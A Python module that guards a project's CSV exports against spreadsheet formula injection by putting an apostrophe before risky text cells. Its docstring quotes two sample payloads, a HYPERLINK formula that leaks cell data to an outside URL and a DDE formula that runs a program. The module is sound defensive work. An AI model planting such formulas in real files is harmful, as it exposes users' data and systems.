"""Text cells that a spreadsheet must not run: the one escaping rule for every CSV this project writes.

A suggestion is citizen-written text. Opened in Excel or WPS, a cell starting with ``=``, ``+``, ``-``, ``@``
(or a tab or carriage return before one) is a formula: ``=HYPERLINK("http://…?leak="&A1,"查看原文")`` sends the
sheet's data away and ``=cmd|' /C calc'!A0`` asks to run a program. OWASP's rule: such a text cell starts
with an apostrophe, which spreadsheets show as text and do not display. Full-width ``＝＋－＠`` are included
because some spreadsheet programs read them as their ASCII twins. Numbers are left as numbers.

>>> formula_safe("=1+1"), formula_safe("建议"), formula_safe(-3)
("'=1+1", '建议', -3)
"""

from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def formula_safe(value: object) -> object:
    """``value`` with an apostrophe in front when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def formula_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text columns are :func:`formula_safe` (other columns untouched)."""
    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if column.dtype == object:
            out[name] = column.map(formula_safe)
        elif pd.api.types.is_string_dtype(column.dtype):
            risky = column.str.startswith(FORMULA_STARTS).fillna(False).astype(bool)
            if risky.any():
                out[name] = column.mask(risky, "'" + column.astype(object).where(risky, ""))
    return out


__all__ = ["FORMULA_STARTS", "formula_safe", "formula_safe_frame"]
